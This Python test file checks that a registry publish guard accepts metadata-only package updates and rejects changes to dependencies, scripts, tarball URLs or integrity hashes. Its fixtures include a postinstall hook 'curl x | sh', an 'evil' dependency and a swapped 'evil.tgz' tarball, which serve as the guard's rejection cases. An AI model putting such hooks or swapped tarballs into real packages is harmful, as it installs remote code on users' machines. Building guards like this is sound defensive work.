"""A document update may change metadata only (pure)."""

from __future__ import annotations

from typing import Any

from publish_guard.publish.updates import update_problems


def _manifest(version: str, **extra: Any) -> dict[str, Any]:
    return {
        "name": "w",
        "version": version,
        "dependencies": {"a": "^1.0.0"},
        "scripts": {"test": "node t"},
        "dist": {
            "integrity": f"sha512-{version}",
            "shasum": f"sha1-{version}",
            "tarball": f"http://registry.example.com/w/-/w-{version}.tgz",
        },
        **extra,
    }


CURRENT: dict[str, Any] = {
    "name": "w",
    "versions": {"1.0.0": _manifest("1.0.0"), "1.1.0": _manifest("1.1.0")},
}


def test_metadata_changes_pass() -> None:
    deprecate = {
        "_id": "w",
        "_rev": "3-a",
        "versions": {
            "1.0.0": {**_manifest("1.0.0"), "deprecated": "use 2"},
            "1.1.0": _manifest("1.1.0"),
        },
    }
    assert update_problems(deprecate, CURRENT) == []
    unpublish_one = {"_id": "w", "_rev": "3-a", "versions": {"1.1.0": _manifest("1.1.0")}}
    assert update_problems(unpublish_one, CURRENT) == []
    assert update_problems({"_id": "w", "_rev": "3-a", "maintainers": []}, None) == []


def test_tarball_urls_may_name_the_guard_but_no_other_host() -> None:
    moved = _manifest("1.0.0")
    moved["dist"] = {**moved["dist"], "tarball": "http://guard.example.com:8080/w/-/w-1.0.0.tgz"}
    bases = (("http://registry.example.com/", "http://guard.example.com:8080/"),)
    assert update_problems({"versions": {"1.0.0": moved}}, CURRENT, bases) == []
    assert update_problems({"versions": {"1.0.0": moved}}, CURRENT) == [
        "changes dist.tarball of 1.0.0"
    ]


def test_version_keys_compare_exactly_and_attachments_are_refused() -> None:
    """A registry stores the key it is sent: v1.0.0 or 1.0.0+b would be versions of their own;
    an _attachments entry makes Verdaccio run its publish steps (and crash without data)."""
    for key in ("v1.0.0", "1.0.0+build", "=1.0.0"):
        assert update_problems({"versions": {key: _manifest("1.0.0")}}, CURRENT) == [
            f"adds version {key}"
        ]
    attached = {"_id": "w", "_rev": "3-a", "_attachments": {"w-1.0.0.tgz": {"length": 5}}}
    assert update_problems(attached, CURRENT) == [
        "carries attachments (a registry would run its publish steps on them)"
    ]
    flagged = _manifest("1.0.0", hasInstallScript=True)
    assert update_problems({"versions": {"1.0.0": flagged}}, CURRENT) == [
        "changes hasInstallScript of 1.0.0"
    ]


def test_what_an_install_gets_cannot_change() -> None:
    added = {"versions": {**CURRENT["versions"], "9.9.9": _manifest("9.9.9")}}
    assert update_problems(added, CURRENT) == ["adds version 9.9.9"]
    assert update_problems({"versions": {"1.0.0": _manifest("1.0.0")}}, None) == [
        "adds version 1.0.0"
    ]
    other_deps = _manifest("1.0.0", dependencies={"evil": "*"})
    assert update_problems({"versions": {"1.0.0": other_deps}}, CURRENT) == [
        "changes dependencies of 1.0.0"
    ]
    hook = _manifest("1.0.0", scripts={"postinstall": "curl x | sh", "test": "node t"})
    assert update_problems({"versions": {"1.0.0": hook}}, CURRENT) == ["changes scripts of 1.0.0"]
    swapped = _manifest("1.0.0")
    swapped["dist"] = {
        **swapped["dist"],
        "integrity": "sha512-other",
        "tarball": "http://x/evil.tgz",
    }
    assert update_problems({"versions": {"1.0.0": swapped}}, CURRENT) == [
        "changes dist.integrity of 1.0.0",
        "changes dist.tarball of 1.0.0",
    ]
    assert update_problems({"versions": []}, CURRENT) == ["has a 'versions' that is not an object"]


def test_many_problems_are_summed_up() -> None:
    many = {"versions": {f"9.0.{i}": _manifest(f"9.0.{i}") for i in range(6)}}
    problems = update_problems(many, CURRENT)
    assert problems[-1] == "3 more"
    assert len(problems) == 4
